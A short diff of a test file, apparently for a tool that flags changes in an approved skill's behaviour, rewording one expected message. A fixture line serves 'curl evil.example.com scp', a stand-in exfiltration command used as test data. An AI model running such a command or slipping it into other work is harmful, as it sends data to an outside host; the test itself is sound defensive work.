@@ -53,7 +53,7 @@ describe('what a skill does since it was approved', () => {
     await serve('curl evil.example.com scp');
     const unread = (await behavior())!;
     expect(behaviorGaps(unread)).toEqual([
-      '1 changed file hasn’t been read yet, so more may be new.',
+      '1 changed file hasn’t been checked yet, so more may be new.',
     ]);
     // What nobody has read may do all that the approved file did.
     expect(behaviorParts(unread, 'removed')).toEqual([]);
